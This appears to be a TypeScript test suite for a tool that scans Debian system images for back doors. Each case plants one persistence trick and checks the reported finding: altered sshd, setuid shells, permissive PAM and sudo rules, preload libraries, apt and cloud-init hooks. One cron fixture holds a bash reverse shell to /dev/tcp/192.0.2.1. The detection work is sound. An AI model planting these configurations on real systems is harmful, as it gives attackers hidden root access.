import { dpkg, failed, findings, image, md5, PASSWD, SSHD_CONFIG, type Spoil, STATUS } from "./sound-image";

/** No files are declared as the product's own. */
const NOTHING = { ownFiles: [] };
const SSHD = "/etc/ssh/sshd_config";
const CERTIFICATE = (body: string) => `-----BEGIN CERTIFICATE-----\n${body}\n-----END CERTIFICATE-----\n`;
const AUTH = "/etc/pam.d/common-auth";
const SOUND_AUTH =
  "auth [success=1 default=ignore] pam_unix.so nullok\nauth requisite pam_deny.so\nauth required pam_permit.so\n";
const UPGRADES = "/etc/apt/apt.conf.d/50unattended-upgrades";
const CLOUD = "/etc/cloud/cloud.cfg.d/99.cfg";
const HOOK = "/etc/apt/apt.conf.d/20auto-upgrades";
const PERIODIC = 'APT::Periodic::Update-Package-Lists "1";\nAPT::Periodic::Unattended-Upgrade "1";\n';
const unit = (line: string) => `[Service]\nExecStart=${line}\n`;

/** One back door at a time, and the rules that find it, each with its message. */
test.each<{ door: string; root?: Spoil; esp?: Spoil; want: RegExp[] }>([
  {
    door: "an sshd that is not its package's",
    root: { "/usr/sbin/sshd": "elf with more" },
    want: [
      /^package-files: \/usr\/sbin\/sshd: a file of openssh-server that is not as the package brought it$/,
    ],
  },
  {
    door: "a setting that was changed after its installation",
    root: {
      "/var/lib/dpkg/status": STATUS + dpkg("sudo", { Conffiles: `\n /etc/sudoers ${md5("x")}` }),
      "/etc/sudoers": "%sudo ALL=(ALL:ALL) ALL\n",
    },
    want: [/^package-files: \/etc\/sudoers: a setting of sudo/],
  },
  {
    door: "a digest that is gone",
    root: { "/var/lib/dpkg/info/openssh-server.md5sums": "" },
    want: [/^package-files: \/usr\/sbin\/sshd: .* of which dpkg has no digest$/],
  },
  {
    door: "a package's file and its list that is gone",
    root: {
      "/var/lib/dpkg/info/openssh-server.list": undefined,
      "/var/lib/dpkg/info/openssh-server.md5sums": undefined,
    },
    want: [/^unowned-files: \/usr\/sbin\/sshd: no package owns it$/],
  },
  {
    door: "a program in place of another by a diversion",
    root: {
      "/var/lib/dpkg/diversions": "/usr/sbin/sshd\n/usr/sbin/sshd.real\n:\n",
      "/usr/sbin/sshd.real": "elf",
      "/usr/sbin/sshd": "evil",
    },
    want: [/^unowned-files: \/usr\/sbin\/sshd: no package owns it$/],
  },
  {
    door: "a shell with setuid",
    root: { "/usr/sbin/sshd": { text: "elf", mode: 0o4755 } },
    want: [/^file-rights: \/usr\/sbin\/sshd: runs with the rights of user 0 \(4755\)$/],
  },
  {
    door: "a shell with setuid in a home",
    root: { "/home/debian/x": { text: "sh", mode: 0o6755 } },
    want: [/^file-rights: \/home\/debian\/x: runs with the rights/],
  },
  {
    door: "a capability",
    root: { "/usr/sbin/sshd": { text: "elf", attributes: ["security.capability"] } },
    want: [/^file-rights: .*sshd: has capabilities/],
  },
  {
    door: "a program that no upgrade replaces",
    root: { "/usr/sbin/sshd": { text: "elf", attributes: ["immutable"] } },
    want: [/^file-rights: .*sshd: nobody may change or replace it/],
  },
  {
    door: "a list of passwords that anybody may change",
    root: { "/etc/shadow": { text: "root:*:1::::::\n", mode: 0o666 } },
    want: [/^file-rights: \/etc\/shadow: anybody may change it \(0666\)$/],
  },
  {
    door: "a setting that is somebody else's",
    root: { "/etc/passwd": { text: PASSWD, uid: 1000 } },
    want: [/^file-rights: \/etc\/passwd: belongs to user 1000, needed: root$/],
  },
  {
    door: "setuid at the next upgrade",
    root: { "/var/lib/dpkg/statoverride": "root root 4755 /usr/bin/dash\n" },
    want: [/^file-rights: \/usr\/bin\/dash: dpkg-statoverride gives it to root:root with 4755$/],
  },
  ...[
    "/etc/systemd/system/x.service",
    "/etc/systemd/system/ssh.service.d/x.conf",
    "/usr/lib/systemd/system-generators/x",
    "/usr/local/lib/systemd/system/x.service",
    "/etc/cron.d/x",
    "/etc/cron.d/README",
    "/etc/lsb-base-logging.sh",
    "/etc/userdb/x.user",
    "/etc/pkcs11/modules/x.module",
    "/etc/vim/vimrc.local",
    "/etc/ssh/ssh_config.d/x.conf",
    "/etc/cloud/clean.d/x",
    "/etc/.git/hooks/post-commit",
    "/boot/vmlinuz-9.9",
    "/var/lib/misc/passwd.db",
    "/etc/cron.daily/x",
    "/etc/crontab",
    "/var/spool/cron/crontabs/root",
    "/etc/udev/rules.d/99-x.rules",
    "/etc/profile.d/x.sh",
    "/etc/initramfs-tools/hooks/x",
    "/etc/initramfs-tools/scripts/init-bottom/x",
    "/usr/share/initramfs-tools/hooks/x",
    "/etc/kernel/postinst.d/x",
    "/etc/NetworkManager/dispatcher.d/x",
    "/etc/networkd-dispatcher/routable.d/x",
    "/etc/network/if-up.d/x",
    "/etc/dhcp/dhclient-exit-hooks.d/x",
    "/etc/modprobe.d/x.conf",
    "/etc/rc.local",
    "/etc/binfmt.d/x.conf",
    "/etc/polkit-1/rules.d/x.rules",
    "/usr/share/dbus-1/system-services/x.service",
    "/etc/update-motd.d/x",
    "/etc/tmpfiles.d/x.conf",
    "/usr/lib/sysusers.d/x.conf",
    "/etc/sysctl.d/x.conf",
    "/etc/logrotate.d/x",
    "/usr/local/sbin/sshd",
    "/usr/lib/python3/dist-packages/x.pth",
    "/var/lib/extensions/x.raw",
    "/etc/dpkg/dpkg.cfg.d/x",
    "/var/lib/cloud/scripts/per-boot/x",
    "/etc/security/pam_env.conf",
    "/usr/lib/x86_64-linux-gnu/security/pam_x.so",
  ].map((file) => ({
    door: `${file}, which no package owns`,
    root: { [file]: "x" },
    want: [new RegExp(`^unowned-files: ${file.replace(/[.]/g, "\\.")}: no package owns it$`)],
  })),
  {
    door: "a root shell on a console that is enabled",
    root: {
      "/etc/systemd/system/sysinit.target.wants/debug-shell.service": {
        link: "/usr/lib/systemd/system/debug-shell.service",
      },
      "/var/lib/dpkg/info/cloud-init.list": "/usr/lib/systemd/system/debug-shell.service\n",
      "/var/lib/dpkg/info/cloud-init.md5sums": `${md5("d")}  usr/lib/systemd/system/debug-shell.service\n`,
      "/usr/lib/systemd/system/debug-shell.service": "d",
    },
    want: [
      /^unowned-files: .*wants\/debug-shell\.service: a link to .*debug-shell\.service that no package owns$/,
    ],
  },
  {
    door: "an autologin",
    root: {
      "/etc/systemd/system/serial-getty@ttyS0.service.d/x.conf": unit(
        "-/sbin/agetty --autologin root --noclear %I $TERM",
      ),
    },
    want: [
      /^unowned-files: .*x\.conf: no package/,
      /^services: .*x\.conf: logs somebody in by itself: ExecStart/,
    ],
  },
  {
    door: "a second sshd with settings of its own",
    root: { "/etc/systemd/system/x.service": unit("/usr/sbin/sshd -D -f /etc/x") },
    want: [/^unowned-files: /, /^ssh-as-declared: .*x\.service: starts sshd with other settings: ExecStart=/],
  },
  {
    door: "an sshd with an option",
    root: { "/etc/cron.d/x": "@reboot root /usr/sbin/sshd -o PermitRootLogin=yes\n" },
    want: [/^unowned-files: /, /^ssh-as-declared: \/etc\/cron\.d\/x: starts sshd with other settings/],
  },
  {
    door: "options for sshd in a drop-in",
    root: { "/etc/systemd/system/ssh.service.d/x.conf": "[Service]\nEnvironment=SSHD_OPTS=-4\n" },
    want: [/^unowned-files: /, /^ssh-as-declared: .*x\.conf: gives sshd other options/],
  },
  {
    door: "a shell on the network",
    root: { "/etc/cron.d/x": "* * * * * root bash -i >& /dev/tcp/192.0.2.1/1 0>&1\n" },
    want: [/^unowned-files: /, /^services: \/etc\/cron\.d\/x: gives a shell to the network/],
  },
  ...(
    [
      ["AuthorizedKeysCommand", "/bin/x"],
      ["AuthorizedKeysFile", "/etc/x/%u"],
      ["AuthorizedPrincipalsCommand", "/bin/x"],
      ["HostbasedAuthentication", "yes"],
      ["IgnoreRhosts", "no"],
      ["PermitEmptyPasswords", "yes"],
      ["PermitUserEnvironment", "yes"],
      ["StrictModes", "no"],
      ["AuthenticationMethods", "none"],
      ["ForceCommand", "/bin/x"],
      ["SecurityKeyProvider", "/x.so"],
    ] as const
  ).flatMap(([name, value]) => [
    {
      door: `${name} for everyone`,
      root: { [SSHD]: `${SSHD_CONFIG}${name} ${value}\n` },
      want: [new RegExp(`^ssh-as-declared: ${SSHD}: ${name} is ${value}$`)],
    },
    {
      door: `${name} in a block`,
      root: { [SSHD]: `${SSHD_CONFIG}Match all\n ${name} ${value}\n` },
      want: [new RegExp(`^ssh-as-declared: ${SSHD}: ${name} is ${value} for "Match all"$`)],
    },
  ]),
  {
    door: "sudo without a password",
    root: { "/etc/sudoers.d/x": "debian ALL=(ALL) NOPASSWD:ALL\n" },
    want: [/^unowned-files: /, /^sudo-rules: \/etc\/sudoers\.d\/x: gives rights without a password: debian/],
  },
  {
    door: "sudo that asks nobody",
    root: { "/etc/sudoers": "Defaults !authenticate\n%sudo ALL=(ALL:ALL) ALL\n" },
    want: [/^sudo-rules: \/etc\/sudoers: loosens sudo/],
  },
  {
    door: "PAM that agrees first",
    root: { [AUTH]: `auth sufficient pam_permit.so\n${SOUND_AUTH}` },
    want: [/^pam-stacks: .*common-auth: anybody is let in, whatever the password$/],
  },
  {
    door: "PAM without a refusal",
    root: { [AUTH]: SOUND_AUTH.replace(/.*pam_deny.*\n/, "") },
    want: [/^pam-stacks: /],
  },
  {
    door: "PAM that agrees with one user",
    root: { [AUTH]: `auth [success=done default=ignore] pam_succeed_if.so user = x\n${SOUND_AUTH}` },
    want: [/^pam-stacks: /],
  },
  {
    door: "PAM that runs a program",
    root: { [AUTH]: `auth optional pam_exec.so /bin/x\n${SOUND_AUTH}` },
    want: [/^pam-stacks: .*pam_exec\.so runs a program$/],
  },
  { door: "PAM as it is", root: { [AUTH]: SOUND_AUTH }, want: [] },
  {
    door: "a password of root's for systemd",
    root: { "/etc/credstore/passwd.hashed-password.root": "x" },
    want: [/^system-credentials: \/etc\/credstore\/passwd/],
  },
  {
    door: "a credential beside the kernel",
    esp: { "/loader/credentials/x.cred": "x" },
    want: [/^system-credentials: \/loader\/credentials\/x\.cred: /],
  },
  {
    door: "another loader's program",
    esp: { "/EFI/systemd/drivers/x.efi": "MZ" },
    want: [/^esp-programs: \/EFI\/systemd\/drivers\/x\.efi: is no package's$/],
  },
  ...(
    [
      ["bootcmd: [id]", "bootcmd runs commands at every boot"],
      ["runcmd: [id]", "runcmd runs commands at the first boot"],
      ["write_files: [{path: /x}]", "write_files writes files"],
      ["ssh_import_id: [x]", "ssh_import_id fetches keys"],
      ["users: [default, {name: x, ssh_import_id: [y]}]", "gives the user x ssh_import_id"],
      ["users: [x]", "makes the user x"],
      ["users: [default, {name: x, sudo: y}]", "makes the user x"],
      ["disable_root: false", "disable_root is false"],
      ["output: {all: '| sh'}", "output goes to"],
      ["datasource: {NoCloud: {seedfrom: 'http://192.0.2.1/'}}", "seedfrom is"],
      ["datasource: {Ec2: {metadata_urls: ['http://192.0.2.1']}}", "metadata_urls is"],
      ["apt: {sources: {x: {source: y}}}", "apt: sources"],
    ] as const
  ).map(([text, says]) => ({
    door: `cloud-init's ${text}`,
    root: { [CLOUD]: `${text}\n` },
    want: [new RegExp(`^cloud-init-actions: ${CLOUD}: ${says}`)],
  })),
  {
    door: "a pin",
    root: { "/etc/apt/preferences.d/x": "Package: *\nPin: release a=stable-security\nPin-Priority: -1\n" },
    want: [
      /^package-holds: \/etc\/apt\/preferences\.d\/x: pins \* to release a=stable-security, priority -1$/,
    ],
  },
  {
    door: "a hold",
    root: { "/var/lib/dpkg/status": STATUS + dpkg("openssl", { Status: "hold ok installed" }) },
    want: [/^package-holds: .*openssl is on hold$/],
  },
  {
    door: "an exception from upgrades",
    root: { [UPGRADES]: 'Unattended-Upgrade::Package-Blacklist { "openssl"; };\n' },
    want: [/^package-holds: .*package-blacklist names openssl$/],
  },
  {
    door: "upgrades from no archive of security updates",
    root: { [UPGRADES]: 'Unattended-Upgrade::Origins-Pattern { "origin=x,label=x"; };\n' },
    want: [/^package-holds: .*takes from no archive of security updates$/],
  },
  {
    door: "no security updates",
    root: { "/etc/apt/sources.list.d/security.list": undefined },
    want: [/^package-sources: \/etc\/apt: no source of trixie-security/],
  },
  {
    door: "an unstable suite",
    root: { "/etc/apt/sources.list": "deb http://deb.debian.org/debian sid main\n" },
    want: [/^package-sources: .*: sid is no suite of trixie/],
  },
  {
    door: "old lists",
    root: {
      "/etc/apt/sources.list": "deb [check-valid-until=no] http://deb.debian.org/debian trixie main\n",
    },
    want: [/^package-sources: .*taken however old it is \(check-valid-until=no\)$/],
  },
  {
    door: "a key of apt's",
    root: { "/etc/apt/trusted.gpg.d/x.asc": "k" },
    want: [/^archive-keys: \/etc\/apt\/trusted\.gpg\.d\/x\.asc: a key that no package owns$/],
  },
  {
    door: "a key in a source",
    root: {
      "/etc/apt/sources.list.d/x.sources":
        "Types: deb\nURIs: http://deb.debian.org/debian\nSuites: trixie\nComponents: main\nSigned-By: -----BEGIN PGP PUBLIC KEY BLOCK-----\n x\n",
    },
    want: [/^archive-keys: .*x\.sources: a source brings a key of its own$/],
  },
  ...(
    [
      ['Acquire::https::Verify-Peer "false";', "acquire::https::verify-peer is false"],
      [
        'Acquire::https::deb.debian.org::Verify-Host "no";',
        "acquire::https::deb.debian.org::verify-host is no",
      ],
      ['Acquire::Check-Valid-Until "false";', "acquire::check-valid-until is false"],
      ['Acquire::http::Proxy "http://192.0.2.1";', "acquire::http::proxy is http://192.0.2.1"],
      ['Acquire::http::Proxy-Auto-Detect "/x";', "acquire::http::proxy-auto-detect runs /x"],
      ['DPkg::Post-Invoke { "x"; };', "dpkg::post-invoke runs x"],
      ['DPkg::Post-Invoke:: "x";', "dpkg::post-invoke runs x"],
      ['DPkg::Post-Invoke::a "x";', "dpkg::post-invoke::a runs x"],
      ['APT::Update::Post-Invoke-Success { "x"; };', "apt::update::post-invoke-success runs x"],
      ['Dir::Bin::dpkg "/x";', "dir::bin::dpkg runs /x"],
    ] as const
  ).map(([line, says]) => ({
    door: `apt's ${line}`,
    root: { [HOOK]: `${PERIODIC}${line}\n` },
    want: [new RegExp(`^apt-settings: ${HOOK}: ${says}$`)],
  })),
  {
    door: "an archive that is another machine",
    root: { "/etc/hosts": "127.0.0.1 localhost\n192.0.2.1 security.debian.org\n" },
    want: [/^names-and-proxies: \/etc\/hosts: leads a name to another machine: 192/],
  },
  {
    door: "an archive that is not reached",
    root: { "/etc/hosts": "127.0.0.1 localhost security.debian.org\n" },
    want: [/^names-and-proxies: \/etc\/hosts: keeps an archive from being reached/],
  },
  {
    door: "a proxy",
    root: { "/etc/environment": "https_proxy=http://192.0.2.1\n" },
    want: [/^names-and-proxies: \/etc\/environment: changes every program/],
  },
  {
    door: "a name server",
    root: { "/etc/resolv.conf": "nameserver 192.0.2.1\n" },
    want: [/^names-and-proxies: \/etc\/resolv\.conf: sets a name server/],
  },
  {
    door: "a command for connections",
    root: { "/etc/hosts.allow": "sshd: ALL: spawn /bin/x\n" },
    want: [/^connection-hooks: \/etc\/hosts\.allow: runs a command/],
  },
  ...(
    [
      ["/etc/sysctl.conf", "kernel.core_pattern=|/bin/x %p"],
      ["/etc/sysctl.conf", "kernel.modprobe = /x"],
      ["/etc/aliases", "root: |/bin/x"],
      ["/etc/network/interfaces", "post-up /bin/x"],
      ["/etc/network/interfaces.d/x", "up /bin/x"],
      ["/etc/network/interfaces", "script /opt/x"],
      ["/etc/network/interfaces", "source /opt/x"],
      ["/etc/default/grub", "GRUB_CMDLINE_LINUX=$(/opt/x)"],
      ["/etc/default/keyboard", "/opt/x"],
      ["/etc/default/motd-news", "ENABLED=1; /opt/x"],
      ["/etc/crypttab", "x /dev/x none luks,keyscript=/x"],
      ["/etc/request-key.conf", "create user debug:* * /x"],
      ["/etc/watchdog.conf", "test-binary = /x"],
      ["/etc/mdadm/mdadm.conf", "PROGRAM /x"],
      ["/etc/smartd.conf", "DEVICESCAN -m root -M exec /x"],
      ["/etc/sudo.conf", "Plugin sudoers_policy /x.so"],
    ] as const
  ).map(([file, line]) => ({
    door: `${file}: ${line}`,
    root: { [file]: `# ${line}\n${line}\n` },
    want: [/^setting-commands: .*: names a program: /],
  })),
  ...[
    "/etc/watchdog.d/x",
    "/etc/incron.d/x",
    "/etc/containers/systemd/x.container",
    "/etc/dhcpcd.exit-hook",
  ].map((file) => ({
    door: `${file}, which no package owns`,
    root: { [file]: "x" },
    want: [/^unowned-files: /],
  })),
  {
    door: "a library for every program",
    root: { "/etc/ld.so.preload": "/lib/x.so\n" },
    want: [/^libraries: \/etc\/ld\.so\.preload: every program loads \/lib\/x\.so$/],
  },
  {
    door: "a folder of libraries",
    root: { "/etc/ld.so.conf": "include /etc/ld.so.conf.d/*.conf\n/opt/x\n" },
    want: [/^libraries: \/etc\/ld\.so\.conf: libraries are looked for in \/opt\/x$/],
  },
  {
    door: "an authority",
    root: { "/etc/ssl/certs/ca-certificates.crt": CERTIFICATE("AAAA") },
    want: [/^certificates: .*ca-certificates\.crt: 1 certificate\(s\) of no package$/],
  },
  {
    door: "a line in root's .bashrc",
    root: { "/root/.bashrc": "x\n" },
    want: [/^log-in-hooks: \/root\/\.bashrc: is run or obeyed at log-in/],
  },
  ...[
    "/root/.local/share/systemd/user/x.service",
    "/root/.config/git/config",
    "/root/.selected_editor",
    "/root/.gnupg/gpg-agent.conf",
    "/root/.aws/cli/alias",
    "/root/.docker/cli-plugins/docker-x",
    "/root/.npmrc",
    "/etc/skel/.vim/plugin/x.vim",
  ].map((file) => ({
    door: `${file}, which some program of a person obeys`,
    root: { [file]: "x\n" },
    want: [new RegExp(`^log-in-hooks: ${file.replace(/[.]/g, "\\.")}: is run or obeyed`)],
  })),
  ...[
    ["/etc/environment", "PATH=/opt/x:/usr/bin"],
    ["/etc/default/locale", "LD_PRELOAD=/opt/x.so"],
    ["/etc/environment", "LESSOPEN=|/opt/x %s"],
    ["/etc/locale.conf", "LANG=$(id)"],
  ].map(([file = "", line = ""]) => ({
    door: `${line} for all programs`,
    root: { [file]: `LANG=C.UTF-8\n${line}\n` },
    want: [new RegExp(`^names-and-proxies: ${file}: changes every program that is started: `)],
  })),
  {
    door: "name servers of netplan's",
    root: { "/etc/netplan/x.yaml": "network:\n  nameservers: {addresses: [192.0.2.1]}\n" },
    want: [/^names-and-proxies: \/etc\/netplan\/x\.yaml: says where names and packets go: /],
  },
  {
    door: "accounts that come from a database",
    root: { "/etc/nsswitch.conf": "passwd: db files\nservices: db files\n" },
    want: [/^names-and-proxies: \/etc\/nsswitch\.conf: asks db: passwd: db files$/],
  },
  {
    door: "who may come from where",
    root: { "/root/.rhosts": "+ +\n" },
    want: [/^log-in-hooks: \/root\/\.rhosts/],
  },
  {
    door: "the same for all",
    root: { "/etc/ssh/shosts.equiv": "+\n" },
    want: [/^log-in-hooks: .*shosts\.equiv/],
  },
  {
    door: "a command for each log-in",
    root: { "/etc/ssh/sshrc": "x\n" },
    want: [/^log-in-hooks: \/etc\/ssh\/sshrc/],
  },
  {
    door: "a shell for a service",
    root: { "/etc/passwd": PASSWD.replace("/usr/sbin:/usr/sbin/nologin", "/usr/sbin:/bin/bash") },
    want: [/^account-rights: \/etc\/passwd: daemon is a service, and has the shell \/bin\/bash$/],
  },
  {
    door: "a shell of nobody's",
    root: { "/etc/passwd": PASSWD.replace("/home/debian:/bin/bash", "/home/debian:/opt/x") },
    want: [/^account-rights: .*debian starts \/opt\/x/],
  },
  {
    door: "a member of the administrators",
    root: { "/etc/group": "root:x:0:\nsudo:x:27:debian\n" },
    want: [/^account-rights: \/etc\/group: debian is in the group sudo$/],
  },
])("$door", ({ root, esp, want }) => {
  const found = findings(image(root, esp), NOTHING);
  expect(found).toEqual(want.map((each) => expect.stringMatching(each) as string));
});

test("a service whose password check uses a module that no package owns is named", () => {
  const module = "/usr/lib/x86_64-linux-gnu/security/pam_x.so";
  const root = { [AUTH]: `auth optional pam_x.so\n${SOUND_AUTH}`, [module]: "x" };
  expect(findings(image(root), NOTHING)).toEqual([
    `unowned-files: ${module}: no package owns it`,
    `pam-stacks: ${AUTH}: uses ${module}, which no package owns`,
  ]);
});

test("what an installer writes of language, network and loader is no finding", () => {
  const grub =
    'GRUB_DEFAULT=0\nGRUB_DISTRIBUTOR=`lsb_release -i -s 2> /dev/null || echo Debian`\nGRUB_CMDLINE_LINUX=""\n';
  const root = {
    "/etc/default/grub": `# If you change this\n${grub}`,
    "/etc/default/locale": 'LANG="en_US.UTF-8"\n',
    "/etc/environment":
      'PATH="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin:/usr/games:/snap/bin"\n',
    "/etc/network/interfaces": "source /etc/network/interfaces.d/*\nauto lo\niface lo inet loopback\n",
    "/etc/nsswitch.conf":
      "passwd: files systemd\nhosts: files resolve [!UNAVAIL=return] dns\nnetgroup: nis\n",
  };
  expect(findings(image(root), NOTHING)).toEqual([]);
});

test("what the product declares as its own is no finding", () => {
  const file = "/etc/systemd/system/own.service";
  expect(failed(image({ [file]: "x" }), { ownFiles: ["/etc/systemd/system/own.*"] })).toEqual([]);
  expect(failed(image({ [file]: "x" }), { ownFiles: ["/etc/systemd/*"] })).toEqual(["unowned-files"]);
  expect(failed(image({ [file]: "x" }), { ownFiles: ["/etc/systemd/**"] })).toEqual([]);
});

test("a partition that cloud-init would take settings from fails the policy", () => {
  const seeded = image();
  const volumes = seeded.volumes?.map((each) => ({
    ...each,
    label: each.partition.number === 3 ? "CIDATA" : "x",
  }));
  expect(failed({ ...seeded, volumes: volumes ?? [] })).toEqual(["cloud-init-actions"]);
});

test("a partition for swap that holds something else is named", () => {
  expect(findings({ ...image(), swaps: [{ number: 3, isSwap: false }] })).toEqual([
    "swap-partitions: partition 3: is for swap by its type, and holds none",
  ]);
});
